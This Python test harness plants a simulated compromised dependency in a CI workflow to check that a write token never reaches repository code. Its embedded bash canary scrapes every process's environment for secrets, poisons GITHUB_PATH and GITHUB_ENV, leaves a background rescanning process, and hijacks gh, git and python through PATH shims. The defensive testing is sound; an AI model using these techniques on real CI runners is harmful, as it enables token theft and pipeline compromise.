"""Canaries for the example workflow's two jobs (tests/workflow_run.py):
hostile code committed in the repository, run wherever the repository's
code runs (its dependencies' install, its Biome, its tests).

Each canary writes down what it can see and tries what a compromised
dependency would: it reads the environment of its ancestors and of every
process it can, appends a folder of its own to GITHUB_PATH and a BASH_ENV
and PYTHONPATH to GITHUB_ENV, and leaves a process behind that scans every
process again, a few times a second, for a minute. A `json.py` at the
checkout's root notes who imported it. `gh`, `git` and `python` in the
canary's folder note their environment and then do the real thing.

    .venv/bin/python -m tests.workflow_canary   # the run, job by job
"""

from __future__ import annotations

import json
import re
import shutil
import sys
import tempfile
from pathlib import Path

from . import canary
from .gitrepo import commit_all, git, with_remote
from .support import ROOT
from .workflow_run import READ_TOKEN, WRITE_TOKEN, JobRun, Runner

FAKES = ROOT / "tests" / "fake_tools"
BRANCH = "codemod/app-state"

CANARY = r"""#!/usr/bin/env bash
# A compromised dependency, as the repository's code runs it.
log="@LOGS@"
origin=check
if [ -n "${GITHUB_ENV:-}" ]; then origin=step; fi
scan() {  # $1: what to call the file
  for environ in /proc/[0-9]*/environ; do
    tr '\0' '\n' < "$environ" 2>/dev/null
  done > "$log/$1.$$.env" 2>/dev/null || true
}
ancestors() {
  pid=$$
  while [ "$pid" -gt 1 ]; do
    tr '\0' '\n' < "/proc/$pid/environ" 2>/dev/null
    pid=$(awk '/^PPid:/ {print $2}' "/proc/$pid/status" 2>/dev/null || echo 1)
  done > "$log/ancestors-$origin.$$.env"
}
ancestors
scan "all-$origin"
env > "$log/self-$origin.$$.env"
# the runner's step files, when it can reach them
if [ -n "${GITHUB_PATH:-}" ]; then echo "@EVIL@" >> "$GITHUB_PATH"; fi
if [ -n "${GITHUB_ENV:-}" ]; then
  echo "BASH_ENV=@EVIL@/bash_env" >> "$GITHUB_ENV"
  echo "PYTHONPATH=@ROOTDIR@" >> "$GITHUB_ENV"
fi
# a process left behind that looks again later
setsid bash -c '
  echo "$$ '"$origin"'" >> "'"$log"'/scanners"
  for round in $(seq 300); do
    for environ in /proc/[0-9]*/environ; do tr "\0" "\n" < "$environ" 2>/dev/null; done > "'"$log"'/late-'"$origin"'.$$.$round.env" 2>/dev/null
    sleep 0.2
  done' </dev/null >/dev/null 2>&1 &
exit 0
"""

JSON_PY = """import os
with open(os.path.join("@LOGS@", "json-py.%d.env" % os.getpid()), "w") as handle:
    handle.write("\\n".join("%s=%s" % item for item in os.environ.items()))
"""

EVIL_TOOL = """#!/usr/bin/env bash
env > "@LOGS@/evil-$(basename "$0").$$.env"
PATH=/usr/local/bin:/usr/bin:/bin exec "$(basename "$0")" "$@"
"""


def _subst(text: str, logs: Path, evil: Path, root: Path) -> str:
    return text.replace("@LOGS@", str(logs)).replace("@EVIL@", str(evil)).replace("@ROOTDIR@", str(root))


def plant(work: Path, logs: Path, evil: Path) -> None:
    """Commit the canaries into the repository (main, pushed)."""
    (work / "canary.sh").write_text(_subst(CANARY, logs, evil, work))
    (work / "canary.sh").chmod(0o755)
    (work / "json.py").write_text(_subst(JSON_PY, logs, evil, work))
    commit_all(work, "canaries")
    git(work, "push", "-q", "origin", "main")
    evil.mkdir(parents=True)
    for name in ("gh", "git", "python", "python3"):
        canary.executable(evil / name, _subst(EVIL_TOOL, logs, evil, work))
    (evil / "bash_env").write_text(f'env > "{logs}/bash-env.$$.env"\n')


def stand_ins(path_dir: Path, logs: Path) -> None:
    """The runner's tools: a Bun whose install puts the checkout's Biome and
    oxlint in node_modules and runs the repository's install scripts (the
    canary), and whose `run` and `test` run the repository's code (the
    canary) before behaving as tests/fake_tools/bun; the `gh` stand-in; a
    git that notes which calls saw a token."""
    canary.executable(path_dir / "bun", f"""#!/usr/bin/env bash
root=$PWD
while [ "$root" != / ] && [ ! -f "$root/canary.sh" ]; do root=$(dirname "$root"); done
if [ "$1" = install ]; then
  mkdir -p node_modules/.bin apps/mesh/node_modules
  for tool in biome oxlint; do
    printf '#!/usr/bin/env bash\\n[ -f "%s/canary.sh" ] && bash "%s/canary.sh"\\nexec "{FAKES}/%s" "$@"\\n' "$root" "$root" "$tool" > "node_modules/.bin/$tool"
    chmod +x "node_modules/.bin/$tool"
  done
  [ -f "$root/canary.sh" ] && bash "$root/canary.sh"
  exit 0
fi
[ -f "$root/canary.sh" ] && bash "$root/canary.sh"
exec "{FAKES / 'bun'}" "$@"
""")
    shutil.copy(FAKES / "gh", path_dir / "gh-stand-in")
    # every program a process may start by name: logged with the command
    # line of the process that started it, then run (the publishing
    # process's children are read from this log)
    for name in WATCHED:
        # gh's stand-in started with this Python (not `env python3`, which would log python3)
        real = f'{sys.executable}" "{path_dir / "gh-stand-in"}' if name == "gh" else (shutil.which(name, path=SYSTEM_PATH) or "/bin/false")
        if name == "git":
            continue
        canary.executable(path_dir / name, f"""#!/bin/bash
printf '%s\\t%s\\n' "{name}" "$(tr '\\0' ' ' < /proc/$PPID/cmdline)" >> "{logs}/programs.log"
exec "{real}" "$@"
""")
    real_git = shutil.which("git", path=SYSTEM_PATH)
    canary.executable(path_dir / "git", f"""#!/bin/bash
sub=""; skip=""
for a in "$@"; do
  if [ -n "$skip" ]; then skip=""; continue; fi
  case "$a" in -c|-C) skip=1 ;; -*) ;; *) sub="$a"; break ;; esac
done
if env | grep -q -e '{WRITE_TOKEN}' -e '{canary.environment.basic_credential(WRITE_TOKEN)}'; then mark=token; else mark=clean; fi
echo "$sub $mark" >> "{logs}/git.log"
printf '%s\\t%s\\n' git "$(tr '\\0' ' ' < /proc/$PPID/cmdline)" >> "{logs}/programs.log"
exec "{real_git}" "$@"
""")


# the programs the stand-ins watch (started by name from PATH)
SYSTEM_PATH = "/usr/local/bin:/usr/bin:/bin"
WATCHED = ("gh", "git", "sh", "bash", "dash", "node", "npm", "npx", "bunx", "python", "python3",
           "biome", "tsc", "prettier", "oxlint", "curl", "wget", "perl", "make")


def publishing_programs(logs: Path) -> list[str]:
    """The programs the publishing process (`mesh-codemod publish` and
    `open-pr`) started, in order."""
    log = logs / "programs.log"
    lines = log.read_text().splitlines() if log.exists() else []
    return [name for name, _, parent in (line.partition("\t") for line in lines)
            if "-m codemods publish" in parent or "-m codemods open-pr" in parent]


def seen_by(logs: Path) -> dict[str, list[str]]:
    """For each token, the canary files that hold it (or its credential)."""
    found: dict[str, list[str]] = {WRITE_TOKEN: [], READ_TOKEN: []}
    basic = canary.environment.basic_credential(WRITE_TOKEN)
    for path in sorted(logs.glob("*.env")):
        text = path.read_text(errors="replace")
        for token in found:
            if token in text or (token == WRITE_TOKEN and basic in text):
                found[token].append(path.name)
    return found


def _alive(pid: int) -> bool:
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in ("Z", "X")
    except OSError:
        return False


def run(tmp: Path) -> dict:
    """The example workflow, run job by job, with the canaries planted."""
    remote, work = with_remote(tmp)
    canary.verify_shaped(work)
    logs, evil, path_dir = tmp / "logs", tmp / "evil-bin", tmp / "path-bin"
    logs.mkdir()
    plant(work, logs, evil)
    stand_ins(path_dir, logs)
    github = tmp / "github.json"
    github.write_text(json.dumps({"repo": "decocms/mesh", "pulls": [], "comments": {}, "calls": []}))
    runner = Runner(tmp, remote, path_dir, extra_env={"FAKE_GH_STATE": str(github)})
    jobs = runner.run()
    scanners = {}
    scanner_file = logs / "scanners"
    if scanner_file.exists():
        for line in scanner_file.read_text().splitlines():
            pid, origin = line.split()
            scanners[int(pid)] = origin
    state = json.loads(github.read_text())
    manifest_file = tmp / "artifact-store" / "mesh-codemod-artifact" / "manifest.json"
    return {
        "jobs": jobs,
        "seen": seen_by(logs),
        "logs": sorted(p.name for p in logs.glob("*.env")),
        "scanners": scanners,
        "alive": [pid for pid in scanners if _alive(pid)],
        "git_calls": canary.git_calls(logs),
        "publishing_programs": publishing_programs(logs),
        "remote_branch": git(remote, "for-each-ref", "--format=%(objectname)", f"refs/heads/{BRANCH}").strip(),
        "manifest": json.loads(manifest_file.read_text()) if manifest_file.exists() else {},
        "pulls": state["pulls"],
    }


def report(found: dict) -> str:
    lines = []
    for job in found["jobs"]:
        job: JobRun
        lines.append(f"job {job.name}: permissions {job.permissions}")
        for step in job.steps:
            shown = "skipped" if step.exit is None else f"exit {step.exit}"
            lines.append(f"  {shown:<8} {step.name}")
        lines.append(f"  end of job: the runner's cleanup killed {len(job.killed)} process(es)")
    kinds: dict[str, int] = {}
    for name in found["logs"]:
        kind = re.sub(r"\.\d+.*$", "", name)
        kinds[kind] = kinds.get(kind, 0) + 1
    lines.append("canary files (what they saw): " + ", ".join(f"{k} x{n}" for k, n in sorted(kinds.items())))
    lines.append(f"scanners left behind: {found['scanners']}; alive after the run: {found['alive']}")
    with_token = sorted({sub for sub, mark in found["git_calls"] if mark == "token"})
    lines.append(f"git calls that held the write token: {with_token}")
    lines.append(f"write token seen by: {found['seen'][WRITE_TOKEN] or 'nothing'}")
    started = sorted(set(found["publishing_programs"]))
    lines.append(f"programs the publishing process started: {started} ({len(found['publishing_programs'])} starts)")
    lines.append(f"build job's read token seen by: {len(found['seen'][READ_TOKEN])} canary file(s) (the build job has no write token)")
    lines.append(f"remote {BRANCH}: {found['remote_branch'] or 'none'}; manifest tip: {found['manifest'].get('tip', '')}")
    lines.append(f"pull requests: {[(p['number'], p['state'], p['head']['ref'] if isinstance(p.get('head'), dict) else p.get('head')) for p in found['pulls']]}")
    return "\n".join(lines)


def main() -> int:
    with tempfile.TemporaryDirectory(prefix="workflow-canary-") as name:
        found = run(Path(name))
        print(report(found))
    ok = not found["seen"][WRITE_TOKEN] and found["pulls"] and found["remote_branch"] == found["manifest"].get("tip")
    print("OK: the write token reached nothing of the repository's, and the PR is open" if ok else "FAILED")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())
